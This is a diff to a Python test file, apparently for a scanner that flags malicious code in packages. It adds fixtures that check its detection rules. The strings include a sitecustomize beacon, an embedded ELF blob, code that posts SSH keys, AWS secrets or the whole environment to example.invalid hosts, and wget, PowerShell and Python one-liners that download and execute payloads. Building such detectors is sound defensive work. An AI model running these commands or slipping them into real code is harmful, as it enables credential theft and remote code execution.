@@ -21,6 +21,7 @@ HEX = INERT.encode().hex()
 ZLIB = zlib.compress(INERT.encode())
 ROT = codecs.encode(INERT, "rot13")
 URL = "https://example.invalid/x"
+ELF_B64 = base64.b64encode(b"\x7fELF" + bytes(60)).decode()
 _NOISY = "".join(c for c in map(chr, range(33, 127)) if c not in "'\"\\")
 
 
@@ -89,6 +90,20 @@ CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = [
         "wheel",
     ),
     ("startup-hook.sitecustomize", "x = 1\n", "x = 1\n", "sitecustomize.py", "wheel"),
+    (
+        "startup-hook.sitecustomize-payload",
+        f"import urllib.request\ndef beacon():\n    urllib.request.urlopen({URL!r})\n",
+        "import sys\nsys.dont_write_bytecode = True\n",
+        "sitecustomize.py",
+        "wheel",
+    ),
+    (
+        "binary-dropper.embedded",
+        f"import base64\nBIN = base64.b64decode({ELF_B64!r})\n",
+        f"import base64\nICON = base64.b64decode({base64.b64encode(b'GIF89a' + bytes(60)).decode()!r})\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
     (
         "startup-hook.import-network",
         f"import urllib.request\nurllib.request.urlopen({URL!r})\n",
@@ -499,4 +514,67 @@ def test_long_addition_chain_is_analysed() -> None:
 
 def test_docstrings_with_urls_are_not_endpoints() -> None:
     src = 'def f():\n    """See https://pastebin.com/raw/abc for details."""\n'
+    assert rules_of(src) == set()
+
+
+# ------------------------------------------------------------------ dataflow extras
+
+
+def test_container_mutation_and_param_summaries_carry_secrets() -> None:
+    src = (
+        "import glob, os, requests\n_keys = {}\n"
+        "for p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
+        "    with open(p) as fh:\n        _keys[p] = fh.read()\n"
+        f"requests.post({URL!r}, json=_keys)\n"
+    )
+    assert "exfiltration.credentials" in rules_of(src)
+    src = (
+        "import socket\ndef _leak(data):\n    socket.gethostbyname(data.hex() + '.example.invalid')\n"
+        "_leak(open('/home/u/.ssh/id_rsa', 'rb').read())\n"
+    )
+    assert "exfiltration.credentials" in rules_of(src)
+
+
+def test_secret_env_vars_weigh_by_context() -> None:
+    at_import = f"import os, requests\nrequests.post({URL!r}, data=os.environ.get('AWS_SECRET_ACCESS_KEY'))\n"
+    found = analyse_member(FileContext("pkg/mod.py", "wheel", True), at_import.encode())
+    assert any(
+        f.rule == "exfiltration.credentials" and f.severity.label == "critical" for f in found
+    )
+    api_client = (
+        "import os, httpx\ndef client():\n    token = os.environ.get('GITHUB_TOKEN')\n"
+        "    return httpx.Client(headers={'Authorization': token})\n"
+    )
+    found = analyse_member(FileContext("pkg/mod.py", "wheel", True), api_client.encode())
+    assert all(f.severity.label in ("medium", "low", "info") for f in found)
+
+
+def test_lambda_inlining_and_decoded_payload_analysis() -> None:
+    src = "_m = lambda n: __import__(n[::-1])\n_m('ssecorpbus').Popen(['id'])\n"
+    assert {"obfuscation.hidden-name", "startup-hook.import-process"} <= rules_of(src)
+    inner = "import os, json, urllib.request\nurllib.request.urlopen('https://x.example.invalid', data=json.dumps(dict(os.environ)).encode())\n"
+    src = f"import base64\nP = base64.b64decode({base64.b64encode(inner.encode()).decode()!r})\n"
+    assert "exfiltration.credentials" in rules_of(src)
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        "['sh', '-c', 'wget -q -O /tmp/.u https://x.example.invalid/u && chmod +x /tmp/.u && /tmp/.u']",
+        "'powershell -w hidden -c \"iwr https://x.example.invalid/a.exe -OutFile a.exe; Start-Process a.exe\"'",
+        "['python', '-c', 'import urllib.request as u;exec(u.urlopen(\"https://x.example.invalid\").read())']",
+    ],
+)
+def test_command_lines_that_download_and_run(cmd: str) -> None:
+    found = rules_of(f"import subprocess\ndef f():\n    subprocess.Popen({cmd})\n")
+    assert found & {"download-execute.remote-command", "download-execute.remote-code"}
+
+
+def test_benign_subprocess_and_network_stay_quiet() -> None:
+    src = (
+        "import subprocess, requests\n"
+        "def version():\n    return subprocess.check_output(['git', 'describe', '--tags']).decode()\n"
+        "def fetch(url):\n    return requests.get(url, timeout=5).json()\n"
+        "def run(cmd):\n    return subprocess.run(cmd, check=True)\n"
+    )
     assert rules_of(src) == set()
